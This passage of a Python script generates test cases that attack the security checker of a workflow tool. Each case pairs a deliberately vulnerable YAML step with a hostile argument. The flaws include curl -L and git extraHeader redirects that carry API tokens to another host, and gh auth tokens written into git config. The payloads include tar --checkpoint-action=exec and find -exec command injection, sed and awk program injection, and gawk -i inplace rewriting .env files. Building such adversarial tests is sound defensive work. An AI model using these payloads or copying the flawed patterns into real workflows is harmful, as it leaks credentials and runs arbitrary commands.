  - name: submit
    run: |
      curl -fsS -L --max-time 5 --data-urlencode "token=$API_TOKEN" --data-urlencode "title=$ARG_title" \
        "http://127.0.0.1:18766/$ARG_path" || true
''', {"path": "go307/127.0.0.1/18765/x"},
  "Same with `--data-urlencode`: the body goes along a 307 redirect to any host.")

A("curl-L-stdin-body-307", "redirect-body", SEC + r'''
name: submit_stdin
description: Submit to the reports API, the token read from standard input (never on the command line).
args:
  path: {type: string, pattern: "^[A-Za-z0-9._/-]+$"}
required: [path]
timeout: 30
steps:
  - name: submit
    run: |
      printf 'token=%s' "$API_TOKEN" |
        curl -fsS -L --max-time 5 --data-binary @- "http://127.0.0.1:18766/$ARG_path" || true
''', {"path": "go307/127.0.0.1/18765/x"},
  "The docs' own advice (a credential on stdin, `@-`) with `-L`: a body read from stdin is repeated to the 307 target.")

A("curl-L-json-307", "redirect-body", SEC + r'''
name: submit_json
description: Post a JSON login to the reports API.
args:
  path: {type: string, pattern: "^[A-Za-z0-9._/-]+$"}
required: [path]
timeout: 30
steps:
  - name: submit
    run: |
      curl -fsS -L --max-time 5 --json "{\"token\": \"$API_TOKEN\"}" "http://127.0.0.1:18766/$ARG_path" || true
''', {"path": "go307/127.0.0.1/18765/x"},
  "`--json` (curl 7.82+) is a body like `--data`; with `-L` and a 307 it is sent to the new host.")

A("curl-L-form-307", "redirect-body", SEC + r'''
name: submit_multipart
description: Upload the daily summary to the reports API.
args:
  path: {type: string, pattern: "^[A-Za-z0-9._/-]+$"}
required: [path]
timeout: 30
steps:
  - name: submit
    run: |
      curl -fsS -L --max-time 5 -F "token=$API_TOKEN" -F "summary=daily" "http://127.0.0.1:18766/$ARG_path" || true
''', {"path": "go307/127.0.0.1/18765/x"},
  "A multipart field is a body too: curl resends it on 307.")

A("git-extraheader-redirect", "redirect-body", SEC + r'''
name: remote_heads
description: List the branches of a repository on the company git server.
args:
  repo: {type: string, pattern: "^[A-Za-z0-9._/-]+$", description: "the repository path"}
required: [repo]
timeout: 30
steps:
  - name: heads
    env: {GIT_TERMINAL_PROMPT: "0"}
    run: |
      git -c http.extraHeader="PRIVATE-TOKEN: $API_TOKEN" ls-remote --heads "http://127.0.0.1:18766/$ARG_repo" || true
''', {"repo": "go/127.0.0.1/18765/team/app.git"},
  "The docs name wget and `curl -L` as programs that follow redirects; git is not among them, and its `http.followRedirects` default (`initial`) follows the first request's redirect through libcurl, which keeps custom headers other than Authorization/Cookie on every host: the token header reaches the caller's host.")

# ============================================================ credential-echo
A("gh-auth-token-remote", "credential-echo", r'''
secrets:
  GH_PAT: {env: CI_GH_PAT}
name: setup_push
description: Point the origin remote at the company GitHub with the CI token, for pushes.
timeout: 30
steps:
  - name: remote
    env: {GIT_PAGER: cat}
    run: |
      tok=$(GH_TOKEN="$GH_PAT" gh auth token)
      git remote add origin "https://x-access-token:${tok}@github.example.com/team/app.git" 2>/dev/null ||
        git remote set-url origin "https://x-access-token:${tok}@github.example.com/team/app.git"
      echo "origin set"
''', {},
  "Round nineteen accepts what a capture answers when its secret stands at a credential place (`GH_TOKEN` for gh) as clean. `gh auth token` prints the token it was given; the clean value is kept in `.git/config`, and the secret-free follow-up `remote_info` (`git remote -v`) prints it verbatim, with no scrubber of its own.",
  then=[{"export": "remote_info", "args": {}}])

A("gh-git-credential-cache", "credential-echo", r'''
secrets:
  GH_PAT: {env: CI_GH_PAT}
name: build_credentials
description: Prepare the git credentials the build container uses for GitHub (from the CI token).
timeout: 30
steps:
  - name: creds
    run: |
      creds=$(printf 'protocol=https\nhost=github.com\n\n' | GH_TOKEN="$GH_PAT" gh auth git-credential get)
      mkdir -p .cache
      printf '%s\n' "$creds" > .cache/build-credentials
      echo "prepared"
''', {},
  "The capture of a command whose secret stands at gh's credential place (`GH_TOKEN`) is clean by round nineteen's reading (`read -r x < <(GH_TOKEN=\"$T\" gh api …)`), so writing it to a project file writes clean text. gh's git credential helper prints the token it was given (`password=…`); the shipped `search_text` then prints it verbatim, in a run with no secret to scrub.",
  then=[{"export": "search_text", "args": {"pattern": "password", "path": ".cache"}}])

A("abs-devshm-sed", "cross-export-absolute", r'''
name: set_banner
description: Set the banner text the docs are rendered with (kept in shared memory, /dev/shm/r20-app).
args:
  text: {type: string, minLength: 1, maxLength: 200}
required: [text]
timeout: 30
steps:
  - name: save
    run: |
      mkdir -p /dev/shm/r20-app
      printf '%s\n' "$ARG_text" > /dev/shm/r20-app/banner
''', {"text": "x/;" + SEDE},
  "`/dev/shm` is shared between steps (security.md §8) and is neither the working folder nor a run directory; the follow-up `shm_banner` reads the file with `head -n 1` (a reader of a file no step of its own writes) into a sed program.",
  then=[{"export": "shm_banner", "args": {}}])

A("ref-update-ref-awk", "repo-refs", r'''
name: bookmark
description: Bookmark the current commit under a branch name.
args:
  name: {type: string, pattern: ''' + BRANCH_Y + r''', description: "the bookmark's name"}
required: [name]
timeout: 30
steps:
  - name: mark
    env: {GIT_PAGER: cat}
    run: git update-ref "refs/heads/$ARG_name" HEAD
''', {"name": REF_AWK},
  "`git update-ref` writes a ref whose name is the caller's, with no commit, tag or note; the follow-up `branch_table` puts the names into awk as the repository's text.",
  then=[{"export": "branch_table", "args": {}}])

# ============================================================ split-in-array
A("array-unquoted-tar", "split-in-array", r'''
name: pack_logs
description: Pack the logs folder, leaving out files matching a pattern.
args:
  exclude: {type: string, maxLength: 200, default: "*.tmp", description: "a pattern of files to leave out"}
timeout: 30
steps:
  - name: pack
    run: |
      opts=(-czf "$HARBOR_RUN_DIR/logs.tgz")
      opts+=(--exclude=$ARG_exclude)
      tar "${opts[@]}" logs
      echo "packed"
''', {"exclude": "*.tmp --checkpoint=1 --checkpoint-action=exec=echo${IFS}HARBOR-PWNED-$((6*7))>&2"},
  "Rule 9 checks `\"${opts[@]}\"` of an array written only as literal `opts=(…)`/`opts+=(…)` fragment by fragment; an unquoted expansion is only W102. The caller's value cannot start with `-`, and `--exclude=` is attached, but the split words after it are tar options: `--checkpoint-action=exec=` runs a command.")

A("array-unquoted-find", "split-in-array", r'''
name: find_files
description: List the files of src/ whose names match a pattern.
args:
  name: {type: string, minLength: 1, maxLength: 200, description: "a file name pattern, e.g. *.py"}
required: [name]
timeout: 30
steps:
  - name: find
    run: |
      expr=(-type f -name $ARG_name)
      find src "${expr[@]}" -print
''', {"name": "x -o -exec sh -c echo${IFS}HARBOR-PWNED-$((6*7))>&2 ;"},
  "The same with find: the array is the author's fragments, the value does not start with `-`, but its split words add `-exec sh -c …`.")

# ============================================================ reader-that-writes
A("gawk-inplace-env", "reader-that-writes", r'''
name: rename_app
description: Change APP_NAME in the project's .env and print the report.
args:
  name: {type: string, minLength: 1, maxLength: 120}
required: [name]
timeout: 30
steps:
  - name: rename
    run: gawk -i inplace -v name="$ARG_name" '/^APP_NAME=/ { $0 = "APP_NAME=" name } { print }' .env
  - name: report
    run: ./scripts/report.sh
''', {"name": "x$(" + SH + ")"},
  "Rule 7 does not count a literal awk program \"that uses none of its language's ways to write a file\" as writing the working folder; the program here has no `print >`, no pipe, no `system`. gawk's `-i inplace` (an extension loaded by an option) rewrites `.env` with the caller's value, and `report.sh` sources it.")

A("gawk-inplace-mk", "reader-that-writes", r'''
name: retarget
description: Change TARGET in the Makefile and run the report.
args:
  target: {type: string, minLength: 1, maxLength: 120}
required: [target]
timeout: 30
steps:
  - name: edit
    run: gawk -i inplace -v t="$ARG_target" '/^TARGET \?=/ { $0 = "TARGET ?= " t } { print }' Makefile
  - name: report
    run: make -s report
''', {"target": MKSH},
  "The same extension rewriting the Makefile in place: make then expands the caller's `$(shell …)`.")

A("sort-o-env", "reader-that-writes", r'''
name: enable_feature
description: Add a FEATURE_<name>=1 line to the project's .env (kept sorted) and print the report.
args:
  feature: {type: string, minLength: 1, maxLength: 120}
required: [feature]
timeout: 30
steps:
  - name: add
    run: printf 'FEATURE_%s=1\n' "$ARG_feature" | sort -u -o .env - .env
  - name: report
    run: ./scripts/report.sh
''', {"feature": "X=$(" + SH + ")"},
  "`sort` is a coreutils reader (rule 7's `writes_no_file` table); `-o` makes it write its output, here the project's `.env`, which `report.sh` sources.")

# ============================================================ custom-tool
A("tool-assoc-unset", "custom-tool", r'''
name: agent_alerts
description: An agent acknowledges alerts and reports what is still pending.
tools:
  ack:
    description: Acknowledge alerts by id (comma-separated).
    args:
      ids: {type: string, minLength: 1, maxLength: 500}
    required: [ids]
    run: |
      declare -A pending=([alert-1]=1 [alert-2]=1)
      IFS=, read -r -a acks <<< "$ARG_ids"
      for id in "${acks[@]}"; do unset "pending[$id]"; done
      printf 'still pending: %s\n' "${!pending[@]}"
steps:
  - name: triage
    agent:
      model: triage
      system: You acknowledge alerts that are resolved.
      prompt: Acknowledge the resolved alerts.
      tools: [ack]
''', {}, "The model's value as the key of a proven-associative array given to `unset` in double quotes (class assoc-builtin-subscript), in a custom tool checked like an export.",
  __tools__=[{"tool": "ack", "args": {"ids": "alert-1," + SUB}}])

A("tool-shift-sed", "custom-tool", r'''
name: agent_heads
description: An agent reads the start of the project's text files.
tools:
  head_of:
    description: The first N lines of the changelog.
    args:
      n: {type: string, minLength: 1, maxLength: 100}
    required: [n]
    run: |
      show() { local f=$1; shift; sed -n "1,${1}p" -- "$f"; }
      show CHANGELOG.md "$ARG_n"
steps:
  - name: read
    agent:
      model: triage
      system: You summarise changelogs.
      prompt: Summarise the latest changes.
      tools: [head_of]
''', {}, "Class shifted-positionals in a custom tool: every call's `$1` is a literal file name, `shift` makes the model's count the sed program's `$1`.",
  __tools__=[{"tool": "head_of", "args": {"n": SEDE}}])

A("tool-glob-unmatched", "custom-tool", r'''
name: agent_reports
description: An agent looks at the report files of a month.
tools:
  newest:
    description: The newest report file of a month (YYYY-MM), as a banner.
    args:
      month: {type: string, minLength: 1, maxLength: 120}
    required: [month]
    run: |
      files=(data/report-"$ARG_month"-*.csv)
      sed "s|@REPORT@|${files[-1]##*/}|" docs/index.md
steps:
  - name: look
    agent:
      model: triage
      system: You look at monthly reports.
      prompt: Look at this month's report.
      tools: [newest]
''', {}, "Class unmatched-glob in a custom tool: an unmatched pattern keeps the model's month, which ends up in sed's program as a \"name\".",
  __tools__=[{"tool": "newest", "args": {"month": "x|;" + SEDE}}])

A("tool-rundir-link", "custom-tool", r'''
name: agent_title
description: An agent picks the report's title, then the export runs the report.
tools:
  set_title:
    description: Set the title of the report.
    args:
      title: {type: string, minLength: 1, maxLength: 120}
    required: [title]
    run: |
      ln -sfn "$PWD" "$HARBOR_RUN_DIR/proj"
      printf 'REPORT_TITLE=%s\n' "$ARG_title" > "$HARBOR_RUN_DIR/proj/.env"
steps:
  - name: choose
    agent:
      model: writer
      system: You choose report titles.
      prompt: Choose a title for today's report.
      tools: [set_title]
  - name: report
    run: ./scripts/report.sh
''', {}, "Class rundir-link in a custom tool: the tool writes \"the run directory\" only, through a link to the export's folder; the export's next step sources `.env`.",
  __tools__=[{"tool": "set_title", "args": {"title": "x$(" + SH + ")"}}])

A("tool-guard-after-loop", "custom-tool", r'''
name: agent_lines
description: An agent reads chosen lines of the application log.
tools:
  lines:
    description: Print the given line numbers (comma-separated), then the lines after the last one.
    args:
      list: {type: string, minLength: 1, maxLength: 200}
    required: [list]
    run: |
      IFS=, read -r -a want <<< "$ARG_list"
      for n in "${want[@]}"; do
        [[ $n =~ ^[0-9]+$ ]] || continue
        sed -n "${n}p" logs/app.log
      done
      sed -n "${n},+2p" logs/app.log
steps:
  - name: read
    agent:
      model: triage
      system: You read logs.
      prompt: Read the interesting lines.
      tools: [lines]
''', {}, "Class guard-scope in a custom tool: the `|| continue` guard does not cover the loop variable after the loop.",
  __tools__=[{"tool": "lines", "args": {"list": "1," + SEDE}}])

# ============================================================ follow-up exports (attacks/then/)
T("branch_table", r'''
name: branch_table
description: Print the repository's branches as a table.
timeout: 30
steps:
  - name: table
    env: {GIT_PAGER: cat}
    run: |
      mapfile -t branches < <(git for-each-ref --format='%(refname:short)' refs/heads)
      for b in "${branches[@]}"; do
        awk "BEGIN { printf \"%-40s %s\\n\", \"$b\", \"branch\" }"
      done
''')
T("branch_banner", r'''
name: branch_banner
description: Render the docs index with the current branch's name.
timeout: 30
steps:
  - name: render
    env: {GIT_PAGER: cat}
    run: |
      b=$(git rev-parse --abbrev-ref HEAD)
      sed "s/@BRANCH@/$b/g" docs/index.md
''')
T("remote_table", r'''
name: remote_table
description: Print the repository's remotes as a table.
timeout: 30
steps:
  - name: table
    env: {GIT_PAGER: cat}
    run: |
      mapfile -t remotes < <(git remote)
      for r in "${remotes[@]}"; do
        awk "BEGIN { printf \"%-30s %s\\n\", \"$r\", \"remote\" }"
      done
''')
T("remote_info", r'''
name: remote_info
description: Show the repository's remotes and their URLs.
timeout: 30
steps:
  - name: remotes
    env: {GIT_PAGER: cat}
    run: git remote -v
''')
T("state_banner", r'''
name: state_banner
description: Render the docs index with the dashboard's display name.
timeout: 30
steps:
  - name: render
    run: |
      name=$(jq -r '.display_name // "app"' /var/tmp/r20-app/state.json)
      sed "s/@APP@/$name/g" docs/index.md
''')
T("motd_banner", r'''
name: motd_banner
description: Print the message of the day as a banner.
timeout: 30
steps:
  - name: banner
    run: |
      motd=$(cat /var/tmp/r20-app/motd)
      awk "BEGIN { print \"*** $motd ***\" }"
''')
T("next_build", r'''
name: next_build
description: Say the number of the next build.
timeout: 30
steps:
  - name: next
    run: |
      read -r last < /var/tmp/r20-app/last_build
      echo "next build: $(( last + 1 ))"
''')
T("region_list", r'''
name: region_list
description: List the dashboard's regions with their display names.
timeout: 30
steps:
  - name: list
    run: |
      mapfile -t regions < /var/tmp/r20-app/regions
      for r in "${regions[@]}"; do
        node -e "console.log('region: ' + '$r'.toUpperCase())"
      done
''')
T("shm_banner", r'''
name: shm_banner
description: Render the docs index with the shared banner text.
timeout: 30
steps:
  - name: render
    run: |
      banner=$(head -n 1 /dev/shm/r20-app/banner)
      sed "s/@BANNER@/$banner/g" docs/index.md
''')
T("build_report", r'''
name: build_report
description: Run the project's make report.
timeout: 30
steps:
  - name: report
    run: make -s report
''')
T("nightly_sync", r'''
name: nightly_sync
description: Sync the nightly data from the company API (served beside the attacks of class sibling-file-secret).
secrets:
  API_TOKEN: {file: /run/secrets/api_token}
timeout: 60
steps:
  - name: sync
    run: |
      printf 'Authorization: Bearer %s\n' "$API_TOKEN" |
        curl -fsS --max-time 5 --header @- -o "$HARBOR_RUN_DIR/nightly.json" http://127.0.0.1:18766/v1/nightly
''')


def main():
    os.makedirs(OUT, exist_ok=True)
    os.makedirs(os.path.join(OUT, "then"), exist_ok=True)
    for f in os.listdir(OUT):
        if f[:3].isdigit():
            os.unlink(os.path.join(OUT, f))
    for f in os.listdir(os.path.join(OUT, "then")):
        os.unlink(os.path.join(OUT, "then", f))
    for name, y in THEN.items():
        open(os.path.join(OUT, "then", name + ".yaml"), "w").write(y)
    i = 0
    for name, cls, y, args, why, extra in ATT:
        if extra.pop("skip", False):
            continue
        i += 1
        base = os.path.join(OUT, "%03d-%s" % (i, name))
        open(base + ".yaml", "w").write(y)
        spec = {"args": dict(args), "class": cls, "why": why}
        spec.update(extra)
        json.dump(spec, open(base + ".json", "w"), indent=1)
        assert "HARBOR-PWNED-42" not in json.dumps(spec), name
    print(i, "attacks,", len(THEN), "then-exports")


if __name__ == "__main__":
    main()
